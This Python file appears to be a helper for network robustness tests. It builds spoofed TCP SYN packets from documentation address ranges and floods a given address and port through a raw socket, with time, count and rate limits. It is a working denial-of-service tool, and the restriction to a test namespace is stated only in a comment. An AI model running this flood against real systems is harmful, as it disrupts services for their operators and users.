# SYN flooder for the robustness tests: spoofed SYNs from 198.51.100.0/24 and
# 203.0.113.0/24 (documentation ranges, never the real client's address) to one
# service address and port, as fast as one raw socket sends, for a bounded time and a
# bounded count, unpaced or paced to a rate. Prints "sent N seconds S" on exit. Runs only inside a test namespace.
import socket, struct, sys, time, random

dst, port, seconds, limit = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
real = sys.argv[5]  # the legitimate client's address: never spoofed
rate = float(sys.argv[6]) if len(sys.argv) > 6 else 0.0  # packets a second; 0: no pacing
rng = random.Random(7)

def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return (~s) & 0xFFFF

dst_b = socket.inet_aton(dst)
packets = []
for i in range(8192):
    net = (198, 51, 100) if i % 2 == 0 else (203, 0, 113)
    src = "%d.%d.%d.%d" % (net + (rng.randrange(3, 255),))
    if src == real or src == dst:
        continue
    src_b = socket.inet_aton(src)
    sport = rng.randrange(1024, 65535)
    seq = rng.randrange(0, 1 << 32)
    # MSS 1460, SACK permitted, timestamps, NOP, window scale 7: a Linux SYN.
    opts = struct.pack("!BBH", 2, 4, 1460) + bytes([4, 2, 8, 10]) + struct.pack("!II", seq ^ 0x5A5A, 0) + bytes([1, 3, 3, 7])
    hl = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, (hl // 4) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = src_b + dst_b + struct.pack("!BBH", 0, 6, len(tcp))
    c = csum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0, 64, 6, 0, src_b, dst_b)
    packets.append(ip + tcp)

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = (dst, 0)
sent = 0
start = time.monotonic()
end = start + seconds
n = len(packets)
batch = 256
while sent < limit:
    for i in range(0, n, batch):
        for p in packets[i:i + batch]:
            try:
                s.sendto(p, target)
            except OSError:
                pass  # ENOBUFS: the queue is full; that is the point
        sent += len(packets[i:i + batch])
        if rate > 0:
            ahead = sent / rate - (time.monotonic() - start)
            if ahead > 0:
                time.sleep(ahead)
    if time.monotonic() >= end:
        break
print("sent %d seconds %.3f" % (sent, time.monotonic() - start))
